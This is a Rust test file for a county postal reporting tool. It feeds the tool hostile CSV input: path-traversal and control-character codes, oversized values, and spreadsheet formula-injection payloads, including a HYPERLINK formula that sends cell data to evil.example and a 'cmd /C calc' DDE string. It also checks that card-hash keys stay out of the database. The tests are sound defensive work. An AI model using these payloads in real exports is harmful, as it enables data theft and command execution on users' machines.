//! Hostile files, hostile data and secrets through the real binary (issue
//! 8): codes that could name a path, statements of such codes already in a
//! database, CSV formula injection, absurd figures, long lines, OS errors,
//! the card-number key outside the database, and private file modes.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use bianmin::store::Store;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/imports")
        .join(name)
}

fn bianmin(db: &Path) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_bianmin"));
    cmd.arg("--db")
        .arg(db)
        .args(["--lang", "en"])
        .env_remove("BIANMIN_DB")
        .env_remove("BIANMIN_CARD_KEY");
    cmd
}

fn ok(out: Output) -> String {
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

fn import(db: &Path, kind: &str, file: &Path) -> Output {
    bianmin(db).args(["import", kind]).arg(file).output().unwrap()
}

/// The error of an import that must fail with exit status 2.
fn refused(out: Output) -> String {
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    stderr
}

/// A database with the fixtures' registry (stations S001–S006, branches
/// B01 and B02, people M01, M02, P01–P03).
fn registry_db(dir: &Path) -> PathBuf {
    let db = dir.join("county.db");
    ok(import(&db, "stations", &fixture("stations.csv")));
    db
}

/// One day of figures at `station` in October 2026: a report of a month
/// without any is "no data" (exit 1), not a table of zeros.
fn a_day_of_figures(db: &Path, station: &str) {
    Store::open(db)
        .unwrap()
        .sql_for_tests()
        .execute(
            "INSERT INTO daily_payments (station_id, day, category, count, amount_fen) VALUES (?1, '2026-10-03', 'mobile', 1, 3000)",
            [station],
        )
        .unwrap();
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

const STATION_HEADER: &str = "站点编码,站点名称,站点类型,支局编码,支局名称,支局类型,支局长工号,维护人员工号\n";

#[test]
fn codes_that_could_name_a_path_are_refused_in_every_import_with_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    let good = "S101,甲站,农村,B01,临邑支局,农村,M01,P01\n";
    let padding: String = (0..2000)
        .map(|i| format!("P{i},S001,2026-10-01 08:00,移动,10\n"))
        .collect();
    assert!(padding.len() > 64 * 1024);
    let cases = [
        (
            "stations",
            format!("{STATION_HEADER}{good}../escaped,乙站,农村,B01,临邑支局,农村,M01,P01\n"),
            "line 3, column 站点编码: \"../escaped\" contains ..",
        ),
        (
            "stations",
            format!("{STATION_HEADER}{good}S102,乙站,农村,/tmp/x,临邑支局,农村,M01,P01\n"),
            "line 3, column 支局编码: \"/tmp/x\" contains /",
        ),
        (
            "stations",
            format!("{STATION_HEADER}{good}S102,乙站,农村,B01,临邑支局,农村,M\\01,P01\n"),
            "line 3, column 支局长工号: \"M\\\\01\" contains \\",
        ),
        (
            "stations",
            format!("{STATION_HEADER}{good}S102,乙站,农村,B01,临邑支局,农村,M01,\"P\x1b[2J01\"\n"),
            "line 3, column 维护人员工号: \"P\\u{1b}[2J01\" holds a control or invisible character (\\u{1b})",
        ),
        (
            "plans",
            "支局编码,月份,计划\nB01,2026-10,3\n..\\B02,2026-10,3\n".to_string(),
            "line 3, column 支局编码: \"..\\\\B02\" contains ..",
        ),
        (
            // A NUL in the first 64 KiB makes the file "binary"; further on
            // it reaches the cell.
            "payments",
            format!("交易流水号,站点编码,交易时间,业务类型,金额\n{padding}P2,S0\u{0}01,2026-10-01 08:00,移动,10\n"),
            "line 2002, column 站点编码: \"S0\\001\" holds a control or invisible character (\\u{0})",
        ),
        (
            "cards",
            "交易流水号,站点编码,交易时间,卡号\nC1,../../etc/S001,2026-10-01 08:00,6217001234567890123\n".to_string(),
            "line 2, column 站点编码: \"../../etc/S001\" contains ..",
        ),
        (
            "referrals",
            "转介编号,站点编码,日期,转介类型\nR1,S001,2026-10-02,惠农通\nR2,S001/..,2026-10-02,惠农通\n".to_string(),
            "line 3, column 站点编码: \"S001/..\" contains ..",
        ),
    ];
    for (kind, text, expected) in cases {
        let before = std::fs::read(&db).unwrap();
        let file = write(dir.path(), &format!("{kind}.csv"), &text);
        let stderr = refused(import(&db, kind, &file));
        assert!(stderr.contains(expected), "{kind}: expected {expected:?} in\n{stderr}");
        assert!(stderr.contains("nothing was imported"), "{stderr}");
        assert_eq!(std::fs::read(&db).unwrap(), before, "{kind}: the database changed");
    }
}

/// Every file under `root`, as paths relative to it.
fn files_under(root: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push(path.strip_prefix(root).unwrap().to_path_buf());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn statements_of_hostile_codes_already_in_the_database_stay_in_the_folder() {
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    let absolute = elsewhere.path().join("abs").display().to_string();
    let hostile = [
        "../escaped".to_string(),
        "../../escaped2".to_string(),
        absolute.clone(),
        "..\\win".to_string(),
        "sub/dir".to_string(),
        "..".to_string(),
        ".hidden".to_string(),
        "CON".to_string(),
        "a\u{0}b".to_string(),
        "x\u{202e}txt.exe".to_string(),
    ];
    {
        // A database written by hand or by an older bianmin: no import
        // checked these codes.
        let store = Store::open(&db).unwrap();
        for (i, code) in hostile.iter().enumerate() {
            store
                .sql_for_tests()
                .execute(
                    "INSERT INTO stations (id, name, kind, branch_id, maintainer_id) VALUES (?1, ?2, 'rural', 'B01', 'P01')",
                    (code, format!("站{i}")),
                )
                .unwrap();
        }
    }
    a_day_of_figures(&db, "S001");
    let out_dir = dir.path().join("out");
    for format in ["text", "html"] {
        ok(bianmin(&db)
            .args([
                "report",
                "--month",
                "2026-10",
                "--statements",
                "--statement-format",
                format,
                "--output",
            ])
            .arg(&out_dir)
            .output()
            .unwrap());
    }
    let everything = files_under(dir.path());
    let outside: Vec<_> = everything
        .iter()
        .filter(|p| !p.starts_with("out") && !p.to_string_lossy().starts_with("county.db"))
        .collect();
    assert!(outside.is_empty(), "written outside the folder: {outside:?}");
    assert!(files_under(elsewhere.path()).is_empty(), "written at the absolute path");
    let written = files_under(&out_dir);
    assert_eq!(written.len(), 2 * (6 + hostile.len()), "{written:?}");
    for path in &written {
        assert_eq!(path.components().count(), 1, "{path:?}");
        let name = path.to_string_lossy();
        assert!(!name.starts_with('.') && !name.contains(".."), "{name}");
    }
    assert!(
        out_dir.join("S001-2026-10.txt").exists(),
        "ordinary codes keep their names"
    );
}

#[test]
fn os_errors_are_said_once() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("d.db");
    let missing = dir.path().join("MISSING.csv");
    let stderr = refused(import(&db, "payments", &missing));
    assert_eq!(stderr.matches("(os error 2)").count(), 1, "{stderr}");
    assert!(stderr.contains("MISSING.csv: cannot open the file"), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    // A database in a folder that cannot exist: said once, nothing made.
    let blocked = dir.path().join("file");
    std::fs::write(&blocked, "").unwrap();
    for command in [&["report"][..], &["demo"]] {
        let out = Command::new(env!("CARGO_BIN_EXE_bianmin"))
            .arg("--db")
            .arg(blocked.join("sub/d.db"))
            .args(command)
            .env_remove("BIANMIN_DB")
            .output()
            .unwrap();
        let stderr = refused(out);
        assert_eq!(stderr.lines().count(), 1, "{command:?}: {stderr}");
        assert!(stderr.contains("sub"), "{command:?}: {stderr}");
    }
    // A policy file that is not there: the OS error, once.
    let out = Command::new(env!("CARGO_BIN_EXE_bianmin"))
        .args(["--policy"])
        .arg(&missing)
        .args(["calc", "whatever.json"])
        .env_remove("BIANMIN_DB")
        .output()
        .unwrap();
    let stderr = refused(out);
    assert_eq!(stderr.matches("(os error").count(), 1, "{stderr}");
}

#[test]
fn a_50_mb_header_line_is_quoted_in_a_few_hundred_characters() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("d.db");
    // One 50 MB header cell, and a header of 200,000 columns.
    let one_cell = format!("交易流水号,站点编码,{}\nP1,S001,x\n", "金".repeat((50 << 20) / 3));
    let many: Vec<String> = (0..200_000).map(|i| format!("列{i}")).collect();
    let many_columns = format!("交易流水号,{}\n", many.join(","));
    for text in [one_cell, many_columns] {
        let file = write(dir.path(), "huge-header.csv", &text);
        let stderr = refused(import(&db, "payments", &file));
        assert!(
            stderr.contains("missing column"),
            "{}",
            &stderr[..stderr.len().min(2000)]
        );
        assert!(stderr.len() < 1000, "{} bytes: {}", stderr.len(), &stderr[..2000]);
        assert!(stderr.contains('…'), "{stderr}");
    }
}

#[test]
fn absurd_amounts_and_counts_are_refused_with_the_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    let cases = [
        (
            "payments",
            "交易流水号,站点编码,交易时间,业务类型,金额\nP1,S001,2026-10-01 08:00,移动,10\nP2,S001,2026-10-01 08:00,移动,\"92,233,720,368,547\"\n",
            "line 3, column 金额: \"92,233,720,368,547\" is more than 1000000 yuan",
        ),
        (
            "cards",
            "交易流水号,站点编码,交易时间,卡号,金额\nC1,S001,2026-10-01 08:00,6217001234567890123,1000000.01\n",
            "line 2, column 金额: \"1000000.01\" is more than 1000000 yuan",
        ),
        (
            "plans",
            "支局编码,月份,计划\nB01,2026-10,18446744073709551547\n",
            "line 2, column 计划: \"18446744073709551547\" is more than 1000000",
        ),
        (
            "stations",
            "站点编码,站点名称,站点类型,支局编码,支局名称,支局类型,支局长工号,维护人员工号,村户数\nS201,甲站,农村,B01,临邑支局,农村,M01,P01,4294967296\n",
            "line 2, column 村户数: \"4294967296\" is more than 1000000",
        ),
    ];
    for (kind, text, expected) in cases {
        let file = write(dir.path(), &format!("{kind}.csv"), text);
        let stderr = refused(import(&db, kind, &file));
        assert!(stderr.contains(expected), "{kind}: expected {expected:?} in\n{stderr}");
    }
}

#[test]
fn formulas_in_names_are_neutralised_in_csv_exports() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("county.db");
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-x",
        "-1",
    ];
    let mut text = STATION_HEADER.to_string();
    for (i, name) in names.iter().enumerate() {
        let quoted = name.replace('"', "\"\"");
        text.push_str(&format!("S{i},\"{quoted}\",农村,B01,\"=1+1\",农村,M01,P01\n"));
    }
    let file = write(dir.path(), "stations.csv", &text);
    ok(import(&db, "stations", &file));
    a_day_of_figures(&db, "S0");
    for table in ["stations", "branches"] {
        let csv = ok(bianmin(&db)
            .args(["report", "--month", "2026-10", "--format", "csv", "--table", table])
            .output()
            .unwrap());
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        for record in reader.records() {
            let record = record.unwrap();
            for cell in record.iter() {
                let first = cell.chars().next();
                let formula = matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                    || (first == Some('-') && cell.parse::<f64>().is_err());
                assert!(!formula, "{table}: a cell a spreadsheet would run: {cell:?}\n{csv}");
            }
        }
        if table == "stations" {
            for name in &names[..4] {
                assert!(
                    csv.contains(&format!("'{}", name.replace('"', "\"\""))),
                    "{name} not neutralised:\n{csv}"
                );
            }
            assert!(csv.contains(",-1,"), "a number stays a number:\n{csv}");
        } else {
            assert!(csv.contains("'=1+1"), "{csv}");
        }
    }
}

// ---- secrets: the card key and file modes --------------------------------

const CARD_NUMBERS: [&str; 4] = [
    "6217001234567890123",
    "6217001111222233334",
    "6228480012345678",
    "621700987654",
];

/// The bytes of the database and its WAL (whatever is on disk now).
fn database_bytes(db: &Path) -> Vec<u8> {
    let mut bytes = std::fs::read(db).unwrap();
    let mut wal = db.as_os_str().to_owned();
    wal.push("-wal");
    if let Ok(more) = std::fs::read(&wal) {
        bytes.extend(more);
    }
    bytes
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

fn key_file(db: &Path) -> PathBuf {
    let mut name = db.as_os_str().to_owned();
    name.push(".key");
    PathBuf::from(name)
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn the_database_alone_holds_neither_card_numbers_nor_their_key() {
    let dir = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    ok(import(&db, "cards", &fixture("cards.csv")));
    ok(import(&db, "cards", &fixture("cards-five-swipes.csv")));
    let key_text = std::fs::read_to_string(key_file(&db)).unwrap();
    let key_hex = key_text.trim();
    assert_eq!(key_hex.len(), 64, "{key_text:?}");
    let key: Vec<u8> = (0..32)
        .map(|i| u8::from_str_radix(&key_hex[2 * i..2 * i + 2], 16).unwrap())
        .collect();
    let bytes = database_bytes(&db);
    assert!(
        !contains(&bytes, key_hex.as_bytes()),
        "the key (hex) is in the database"
    );
    assert!(!contains(&bytes, &key), "the key (raw) is in the database");
    for number in CARD_NUMBERS {
        assert!(
            !contains(&bytes, number.as_bytes()),
            "card number {number} is in the database"
        );
    }
    // The key file and the database are readable by their owner only.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        for suffix in ["", "-wal", "-shm", ".key"] {
            let mut path = db.as_os_str().to_owned();
            path.push(suffix);
            let mode = std::fs::metadata(&path).map(|m| m.permissions().mode() & 0o777);
            match (suffix, mode) {
                (_, Ok(mode)) => assert_eq!(mode, 0o600, "{path:?} is {mode:o}"),
                ("-wal" | "-shm", Err(_)) => {} // folded away on close
                (_, Err(e)) => panic!("{path:?}: {e}"),
            }
        }
    }
}

#[cfg(unix)]
#[test]
fn databases_and_their_wal_are_created_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("new.db");
    // Keep the store open so its -wal and -shm exist to be looked at.
    let store = Store::open(&db).unwrap();
    store.set_meta("probe", "1").unwrap();
    for suffix in ["", "-wal", "-shm"] {
        let mut path = db.as_os_str().to_owned();
        path.push(suffix);
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{path:?} is {mode:o}");
    }
}

#[test]
fn a_card_import_without_the_key_file_is_refused_when_hashes_exist() {
    let dir = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    ok(import(&db, "cards", &fixture("cards.csv")));
    let key = key_file(&db);
    let saved = std::fs::read(&key).unwrap();
    std::fs::remove_file(&key).unwrap();
    let before = std::fs::read(&db).unwrap();
    let stderr = refused(import(&db, "cards", &fixture("cards-five-swipes.csv")));
    assert!(
        stderr.contains("holds card-number hashes but their key file"),
        "{stderr}"
    );
    assert!(stderr.contains(&key.display().to_string()), "{stderr}");
    assert!(!key.exists(), "no new key was made");
    assert_eq!(std::fs::read(&db).unwrap(), before);
    // Another key is refused too; the right one works again.
    std::fs::write(&key, format!("{}\n", "ab".repeat(32))).unwrap();
    let stderr = refused(import(&db, "cards", &fixture("cards-five-swipes.csv")));
    assert!(
        stderr.contains("is not the key this database's card hashes were made with"),
        "{stderr}"
    );
    std::fs::write(&key, "garbage").unwrap();
    let stderr = refused(import(&db, "cards", &fixture("cards-five-swipes.csv")));
    assert!(stderr.contains("is not a bianmin key"), "{stderr}");
    std::fs::write(&key, &saved).unwrap();
    ok(import(&db, "cards", &fixture("cards-five-swipes.csv")));
    // Payments need no key.
    std::fs::remove_file(&key).unwrap();
    ok(import(&db, "payments", &fixture("payments.csv")));
}

#[test]
fn the_environment_key_wins_and_no_key_file_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    let key = "0f".repeat(32);
    let with_env = |file: &str| {
        bianmin(&db)
            .env("BIANMIN_CARD_KEY", &key)
            .args(["import", "cards"])
            .arg(fixture(file))
            .output()
            .unwrap()
    };
    ok(with_env("cards.csv"));
    assert!(!key_file(&db).exists());
    assert!(!contains(&database_bytes(&db), key.as_bytes()));
    // Without it the database's hashes have no key here.
    let stderr = refused(import(&db, "cards", &fixture("cards-five-swipes.csv")));
    assert!(stderr.contains("key file"), "{stderr}");
    ok(with_env("cards-five-swipes.csv"));
    let malformed = bianmin(&db)
        .env("BIANMIN_CARD_KEY", "not hex")
        .args(["import", "cards"])
        .arg(fixture("cards.csv"))
        .output()
        .unwrap();
    assert!(refused(malformed).contains("BIANMIN_CARD_KEY must be 64 hex digits"));
}

#[test]
fn an_older_database_key_moves_to_the_key_file_and_hashes_still_match() {
    let dir = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    let old_key = [0x5au8; 32];
    {
        // What an older bianmin left: the key in meta, and two swipes of one
        // card at S001 on 2026-10-03 hashed with it.
        let store = Store::open(&db).unwrap();
        let conn = store.sql_for_tests();
        conn.execute(
            "INSERT INTO meta (key, value) VALUES ('card_hash_key', ?1)",
            [hex(&old_key)],
        )
        .unwrap();
        conn.execute(
            "INSERT INTO imports (id, kind, file_name, imported_at) VALUES (99, 'cards', 'old.csv', '2026-10-04T00:00:00Z')",
            [],
        )
        .unwrap();
        for txn in ["OLD1", "OLD2"] {
            conn.execute(
                "INSERT INTO card_txns (txn_id, station_id, day, card_hash, import_id) VALUES (?1, 'S001', '2026-10-03', ?2, 99)",
                (txn, bianmin::store::card_key::card_hash(&old_key, "6217009999888877776")),
            )
            .unwrap();
        }
        // A day of figures, so that the month is not "no data".
        conn.execute(
            "INSERT INTO daily_cards (station_id, day, raw, valid) VALUES ('S001', '2026-10-03', 2, 2)",
            [],
        )
        .unwrap();
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)", []).ok();
    }
    assert!(!key_file(&db).exists());
    assert!(
        contains(&database_bytes(&db), hex(&old_key).as_bytes()),
        "the old layout"
    );
    // Any command opens the store and moves the key.
    ok(bianmin(&db)
        .args(["report", "--month", "2026-10", "--format", "json"])
        .output()
        .unwrap());
    let moved = std::fs::read_to_string(key_file(&db)).unwrap();
    assert_eq!(moved.trim(), hex(&old_key));
    let bytes = database_bytes(&db);
    assert!(
        !contains(&bytes, hex(&old_key).as_bytes()),
        "the old key is still in the database"
    );
    // A third swipe of the same card that day: the cap (2) holds across the
    // old hashes and the new import, so the key is the same.
    let file = write(
        dir.path(),
        "third.csv",
        "交易流水号,站点编码,交易时间,卡号\nNEW1,S001,2026-10-03 10:00,6217 0099 9988 8877 776\n",
    );
    ok(import(&db, "cards", &file));
    let store = Store::open(&db).unwrap();
    let (raw, valid): (i64, i64) = store
        .sql_for_tests()
        .query_row(
            "SELECT raw, valid FROM daily_cards WHERE station_id = 'S001' AND day = '2026-10-03'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!((raw, valid), (3, 2));
}

#[test]
fn a_move_that_stopped_after_writing_the_key_file_is_finished() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("d.db");
    let old_key = [0x33u8; 32];
    {
        let store = Store::open(&db).unwrap();
        store.set_meta("card_hash_key", &hex(&old_key)).unwrap();
    }
    // The crash: the key file is written, the key is still in the database.
    std::fs::write(key_file(&db), format!("{}\n", hex(&old_key))).unwrap();
    drop(Store::open(&db).unwrap());
    let store = Store::open(&db).unwrap();
    assert_eq!(store.meta("card_hash_key").unwrap(), None);
    assert!(store.meta("card_key_check").unwrap().is_some());
    // A different key file beside an older database is refused, not overwritten.
    let other = dir.path().join("o.db");
    {
        let store = Store::open(&other).unwrap();
        store.set_meta("card_hash_key", &hex(&old_key)).unwrap();
    }
    std::fs::write(key_file(&other), format!("{}\n", "11".repeat(32))).unwrap();
    let err = Store::open(&other).err().expect("refused").to_string();
    assert!(err.contains("differs from the key in"), "{err}");
    assert_eq!(
        std::fs::read_to_string(key_file(&other)).unwrap().trim(),
        "11".repeat(32)
    );
}
